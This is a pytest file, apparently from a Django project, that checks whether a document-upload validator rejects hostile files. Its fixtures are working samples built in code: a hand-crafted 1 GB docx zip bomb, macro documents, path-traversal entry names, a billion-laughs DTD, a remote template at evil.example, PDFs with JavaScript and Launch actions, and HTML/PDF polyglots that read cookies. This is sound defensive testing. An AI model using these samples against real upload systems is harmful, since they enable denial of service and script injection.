"""Issue #16: uploaded documents are parsed, not only sniffed. Real files made here: a docx zip bomb, a macro
docm, unsafe entry names, a DTD, an external template; PDFs with JavaScript, embedded files, a password, HTML
after a "%PDF-" header; and valid docx/xlsx/PDF files, through `check_document_upload` and through a page that
accepts documents (the station's monthly summary)."""

import datetime
import io
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from swms.uploads import check_document_upload

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
)


def docx_bytes(text="十月工作总结", *, main=DOCX_TYPE, extra_types="", document=None, extra=(), rels=None) -> bytes:
    """A minimal but complete Word document, written with zipfile."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main, extra=extra_types))
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", document if document is not None else DOCUMENT.format(text=text))
        if rels is not None:
            archive.writestr("word/_rels/document.xml.rels", rels)
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "服务人次"])
    sheet.append(["张三", 12])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def pdf_bytes(*, javascript=False, attachment=False, password=None, text=b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"):
    """A one-page PDF made with pikepdf; optionally with an /OpenAction JavaScript, an embedded file or a password."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.pages[0].Contents = pdf.make_stream(text)
    if javascript:
        action = pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
                                    JS=pikepdf.String("app.alert('pwned');"))
        pdf.Root.OpenAction = pdf.make_indirect(action)
    if attachment:
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really", mime_type="x/y")
    buffer = io.BytesIO()
    if password:
        pdf.save(buffer, encryption=pikepdf.Encryption(owner=password, user=password))
    else:
        pdf.save(buffer)
    return buffer.getvalue()


def upload(name, data):
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def refused_code(name, data) -> str:
    with pytest.raises(ValidationError) as refused:
        check_document_upload(upload(name, data))
    return refused.value.code


# --- Office files ----------------------------------------------------------------------------------


def test_a_valid_docx_and_xlsx_are_accepted_as_sent():
    docx = docx_bytes()
    checked = check_document_upload(upload("总结.docx", docx))
    assert checked.content_type.endswith("wordprocessingml.document") and checked.content.name.endswith(".docx")
    assert checked.content.read() == docx
    xlsx = check_document_upload(upload("台账.xlsx", xlsx_bytes()))
    assert xlsx.content_type.endswith("spreadsheetml.sheet") and xlsx.content.name.endswith(".xlsx")


def _zip(entries) -> bytes:
    """A zip written by hand from (name, method, compressed bytes, crc, uncompressed size) rows, so a 1 GB entry
    need not be compressed here."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, method, data, crc, size in entries:
        encoded = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, 0, 0x21, crc, len(data), size,
                              len(encoded), 0) + encoded + data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, method, 0, 0x21, crc, len(data),
                                  size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    directory = central.getvalue()
    start = out.tell()
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), start, 0))
    return out.getvalue()


def _stored(name, text):
    data = text.encode()
    return name, 0, data, zlib.crc32(data), len(data)


def docx_bomb(gigabytes=1) -> bytes:
    """A Word file of about 1 MB whose image part unpacks to 1 GB of zeros: the same 1 MB block deflated after
    a full flush gives the same bytes each time, so the stream is that segment repeated."""
    block = b"\0" * (1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    blocks = 1024 * gigabytes
    stream = segment * blocks + compressor.flush()
    crc = 0
    for _i in range(blocks):
        crc = zlib.crc32(block, crc)
    return _zip([
        _stored("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_TYPE, extra="")),
        _stored("_rels/.rels", ROOT_RELS),
        _stored("word/document.xml", DOCUMENT.format(text="x")),
        ("word/media/image1.png", 8, stream, crc, len(block) * blocks),
    ])


def test_the_hand_made_zip_is_a_real_docx():
    """The writer of the bomb makes files zipfile reads (here with a small part, unpacked to check)."""
    data = b"\0" * 5000
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    archive = _zip([_stored("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_TYPE, extra="")),
                    _stored("_rels/.rels", ROOT_RELS), _stored("word/document.xml", DOCUMENT.format(text="x")),
                    ("word/media/a.bin", 8, compressor.compress(data) + compressor.flush(), zlib.crc32(data), 5000)])
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        assert opened.testzip() is None and opened.read("word/media/a.bin") == data
    assert check_document_upload(upload("ok.docx", archive)).content_type.endswith("document")


def test_a_docx_zip_bomb_is_refused_without_unpacking_it():
    """About 1 MB on disk, 1 GB unpacked: refused from the sizes, in well under the time unpacking takes."""
    bomb = docx_bomb()
    assert len(bomb) < 2 * 1024 * 1024
    with zipfile.ZipFile(io.BytesIO(bomb)) as opened:
        assert opened.getinfo("word/media/image1.png").file_size == 1024 ** 3
    started = time.monotonic()
    assert refused_code("bomb.docx", bomb) == "zip_bomb"
    assert time.monotonic() - started < 2


def test_a_bomb_whose_headers_lie_is_caught_while_reading(settings):
    """Headers claiming a small size: the part is read in bounded chunks and its CRC fails."""
    bomb = docx_bomb()
    # Declare 1 KB instead of 1 GB (the local header's and the central directory's size fields).
    lying = bomb.replace(struct.pack("<I", 1024 ** 3), struct.pack("<I", 1024))
    assert lying != bomb
    started = time.monotonic()
    assert refused_code("liar.docx", lying) in {"zip_bomb", "ooxml_broken"}
    assert time.monotonic() - started < 5


def test_a_highly_compressed_entry_is_refused_even_under_the_total(settings):
    settings.SWMS_DOCUMENT_MAX_UNCOMPRESSED_BYTES = 100 * 1024 * 1024
    assert refused_code("small-bomb.docx", docx_bytes(extra=[("word/media/a.bin", b"\0" * (20 * 1024 * 1024))])) \
        == "zip_bomb"


def test_too_many_entries_are_refused(settings):
    settings.SWMS_DOCUMENT_MAX_ENTRIES = 50
    parts = [(f"word/media/p{i}.xml", "<a/>") for i in range(60)]
    assert refused_code("many.docx", docx_bytes(extra=parts)) == "zip_entries"


def test_a_macro_document_is_refused():
    docm = docx_bytes(main=DOCM_TYPE, extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")],
                      extra_types='<Override PartName="/word/vbaProject.bin" '
                                  'ContentType="application/vnd.ms-office.vbaProject"/>')
    assert refused_code("宏.docm", docm) == "macros"
    # Renamed to .docx, or with the macro-enabled type alone: the same.
    assert refused_code("宏.docx", docm) == "macros"
    assert refused_code("宏.docx", docx_bytes(main=DOCM_TYPE)) == "macros"


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil.xml", "word/../../evil.xml", "word\\..\\evil.xml",
                                  "C:/evil.xml", "word/./document2.xml", "word/evil\x01.xml"])
def test_unsafe_entry_names_are_refused(name):
    assert refused_code("path.docx", docx_bytes(extra=[(name, "<a/>")])) == "zip_names"


def test_a_repeated_entry_name_is_refused():
    assert refused_code("dup.docx", docx_bytes(extra=[("WORD/DOCUMENT.XML", "<a/>")])) == "zip_names"


def test_xml_with_a_dtd_is_refused():
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
              '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol2;</w:document>')
    assert refused_code("laughs.docx", docx_bytes(document=laughs)) == "ooxml_dtd"


def test_a_remote_template_is_refused():
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    assert refused_code("template.docx", docx_bytes(rels=rels)) == "ooxml_external"


def test_a_zip_that_is_not_an_office_file_or_is_damaged_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert refused_code("a.docx", buffer.getvalue()) == "format"
    assert refused_code("b.docx", docx_bytes(document="<w:document><w:body>")) == "ooxml_broken"
    assert refused_code("c.docx", b"PK\x03\x04" + b"\0" * 40) == "ooxml_broken"


# --- PDF -------------------------------------------------------------------------------------------


def test_a_valid_pdf_is_accepted_and_stored_as_saved_again():
    data = pdf_bytes()
    checked = check_document_upload(upload("方案.pdf", data))
    assert checked.content_type == "application/pdf" and checked.content.name.endswith(".pdf")
    stored = checked.content.read()
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert len(pdf.pages) == 1


def test_a_pdf_made_with_weasyprint_is_accepted():
    from weasyprint import HTML

    data = HTML(string="<h1>十月工作总结</h1><p>服务 12 人次。</p>").write_pdf()
    assert check_document_upload(upload("总结.pdf", data)).content_type == "application/pdf"


def test_html_after_a_pdf_header_is_refused():
    polyglot = b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n"
    assert refused_code("evil.pdf", polyglot) == "pdf_broken"


def test_html_appended_to_a_real_pdf_is_dropped_from_what_is_stored():
    data = pdf_bytes() + b"\n<html><script>alert(1)</script></html>\n"
    stored = check_document_upload(upload("tail.pdf", data)).content.read()
    assert b"<script>" not in stored and stored.startswith(b"%PDF-")


def test_a_pdf_with_open_action_javascript_is_refused():
    assert refused_code("js.pdf", pdf_bytes(javascript=True)) == "pdf_active"


def test_a_pdf_with_javascript_in_a_link_annotation_is_refused():
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                              Rect=pikepdf.Array([0, 0, 100, 100]),
                              A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    buffer = io.BytesIO()
    pdf.save(buffer)
    assert refused_code("link.pdf", buffer.getvalue()) == "pdf_active"


def test_a_pdf_with_a_launch_action_is_refused():
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    buffer = io.BytesIO()
    pdf.save(buffer)
    assert refused_code("launch.pdf", buffer.getvalue()) == "pdf_active"


def test_a_pdf_opening_at_a_page_is_fine():
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    buffer = io.BytesIO()
    pdf.save(buffer)
    assert check_document_upload(upload("fit.pdf", buffer.getvalue())).content_type == "application/pdf"


def test_a_pdf_with_an_embedded_file_is_refused():
    assert refused_code("attached.pdf", pdf_bytes(attachment=True)) == "pdf_active"


def test_an_encrypted_pdf_is_refused():
    assert refused_code("locked.pdf", pdf_bytes(password="secret")) == "encrypted"


# --- Through a page that accepts documents ----------------------------------------------------------


@pytest.fixture
def summary_page(alice, regions, client, media):
    from services import summaries
    from tests.test_stations import create_station, station_login

    station, _pw = create_station(alice, regions)
    summary = summaries.summary_start(station=station, month=datetime.date(2026, 10, 1), actor=station.account)
    station_login(client, station)
    return summary, reverse("services:summary-edit", args=[summary.pk])


@pytest.mark.parametrize("name, make", [
    ("bomb.docx", lambda: docx_bytes(extra=[("word/media/a.bin", b"\0" * (60 * 1024 * 1024))])),
    ("js.pdf", lambda: pdf_bytes(javascript=True)),
    ("html.pdf", lambda: b"%PDF-1.4\n<html><script>alert(1)</script></html>"),
    ("macro.docm", lambda: docx_bytes(main=DOCM_TYPE, extra=[("word/vbaProject.bin", b"macro")])),
])
def test_the_summary_page_refuses_unsafe_documents(summary_page, client, name, make):
    summary, url = summary_page
    response = client.post(url, {"text": "x", "document": upload(name, make()), "action": "save"})
    assert response.status_code == 200 and "invalid-feedback" in response.content.decode()
    summary.refresh_from_db()
    assert not summary.document


@pytest.mark.parametrize("name, make", [("总结.docx", docx_bytes), ("台账.xlsx", xlsx_bytes), ("方案.pdf", pdf_bytes)])
def test_the_summary_page_accepts_valid_documents(summary_page, client, name, make):
    summary, url = summary_page
    response = client.post(url, {"text": "x", "document": upload(name, make()), "action": "save"})
    assert response.status_code == 302
    summary.refresh_from_db()
    assert summary.document and summary.document_name == name
